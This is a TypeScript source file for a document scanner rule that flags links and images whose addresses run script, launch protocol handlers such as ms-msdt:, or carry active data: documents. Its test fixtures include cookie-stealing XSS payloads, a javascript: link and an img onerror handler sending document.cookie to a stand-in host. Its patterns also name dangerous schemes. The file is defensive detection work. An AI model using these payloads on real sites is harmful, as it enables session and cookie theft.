import type { Hit, Rule } from "../rule.ts";

/** What runs, whatever stands in front of it: browsers drop controls and white space from a scheme. */
const SCRIPT = /^[\u0000-\u0020]{0,200}(?:j\s{0,20}a\s{0,20}v\s{0,20}a\s{0,20}s\s{0,20}c\s{0,20}r\s{0,20}i\s{0,20}p\s{0,20}t|v\s{0,20}b\s{0,20}s\s{0,20}c\s{0,20}r\s{0,20}i\s{0,20}p\s{0,20}t|livescript|mocha)\s{0,20}:/iu;
const DATA = /^[\u0000-\u0020]{0,200}data\s{0,20}:\s{0,20}([\w.+-]{0,40}\/?[\w.+-]{0,60})((?:;[^,;]{0,60}){0,5}),/iu;
/** Documents that a browser runs or shows by themselves. */
const ACTIVE = /^(?:text\/(?:html|xml|javascript|ecmascript|vbscript)|application\/(?:xhtml\+xml|xml|javascript|ecmascript|x-javascript)|image\/svg\+xml)$/iu;
const OTHER = /^[\u0000-\u0020]{0,200}(?:vbscript|wscript|ms-(?:msdt|officecmd|search|settings|appinstaller)|search-ms|shell|ms-its|mk|jar|x-apple-helpbasic|smb)\s{0,20}:/iu;
/** The first bytes of images in base64. */
const IMAGE = /^(?:iVBORw0KGgo|\/9j\/|R0lGOD|UklGR|PHN2Zy|PD94bWwg|AAAB|Qk0|AAAAIGZ0eXBhdmlm|AAAAHGZ0eXBhdmlm)/u;
const HANDLER = /\b(?:fetch|XMLHttpRequest|eval|document\.(?:cookie|location|write)|location\s{0,20}=|window\.open|sendBeacon|import\s{0,20}\(|new\s{1,20}Image|localStorage|alert|Function)\b/iu;

export const urlActive: Rule = {
  id: "url/active",
  kind: "hidden",
  finds: "Links and images whose address runs code (`javascript:`, `vbscript:`, event handlers that call out) or carries a document of its own (`data:text/html`, `data:text/plain` with words in it): a page or an order that no reader sees in the text.",
  spares: "Images inlined as `data:image/…` that begin like an image, and addresses in code.",
  flagged: [
    { name: "a script", text: "[Open](javascript:fetch('https://c.test/'+document.cookie))\n", lines: [1] },
    { name: "a document of its own", text: "[Notes](data:text/html;base64,PGgxPkhpPC9oMT4=)\n", lines: [1] },
    { name: "a handler", text: "<img src=\"x.png\" onerror=\"fetch('https://c.test/?'+document.cookie)\">\n", lines: [1] },
  ],
  clean: [
    { name: "an inlined image", text: "![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==)\n" },
    { name: "in inline code", text: "Addresses such as `javascript:void(0)` are refused.\n" },
    { name: "a link", text: "[Open](https://docs.kit.example/#data:text)\n" },
  ],
  *find(document) {
    for (const passage of document.passages) {
      if (passage.kind !== "url") continue;
      const { text } = passage.mapped;
      const says = problem(text, passage.attribute);
      if (says !== undefined) yield { span: passage.span, message: `The address ${says}`, certain: true } satisfies Hit;
    }
  },
};

function problem(url: string, attribute: string | undefined): string | undefined {
  if (attribute?.startsWith("on") === true) return HANDLER.test(url) ? `of the attribute \`${attribute}\` is a program that calls out` : undefined;
  if (SCRIPT.test(url)) return "runs a script (`javascript:`)";
  if (OTHER.test(url)) return `starts a program (\`${(/^[\s\u0000]{0,200}([\w-]{1,30})/u.exec(url)?.[1] ?? "").toLowerCase()}:\`)`;
  const data = DATA.exec(url);
  if (data === null) return undefined;
  const type = data[1] ?? "";
  const body = url.slice(data[0].length);
  const isBase64 = /;\s{0,20}base64/iu.test(data[2] ?? "");
  if (/^image\/svg\+xml$/iu.test(type)) return /<script|onload|foreignObject|javascript:/iu.test(decoded(body, isBase64)) ? "is a drawing with a script in it" : undefined;
  if (ACTIVE.test(type)) return `is a document of its own (\`data:${type.toLowerCase()}\`)`;
  if (/^image\//iu.test(type)) return isBase64 && IMAGE.test(body) || !isBase64 ? undefined : hasWords(decoded(body, true)) ? "calls itself an image and holds words" : undefined;
  return /^(?:text\/|application\/|$)/iu.test(type) && hasWords(decoded(body, isBase64)) ? `holds a text of its own (\`data:${type.toLowerCase()}\`)` : undefined;
}

function decoded(body: string, isBase64: boolean): string {
  try {
    return isBase64 ? atob(body.slice(0, 8_192).replaceAll(/\s/gu, "").replace(/={1,20}$/u, "")) : decodeURIComponent(body.slice(0, 8_192));
  } catch {
    return body.slice(0, 8_192);
  }
}

const hasWords = (text: string): boolean => /[A-Za-z\u00c0-\uffff]{2}[ ,.:;+]{1,20}[A-Za-z\u00c0-\uffff]{2,60}[ ,.:;+]/u.test(text);
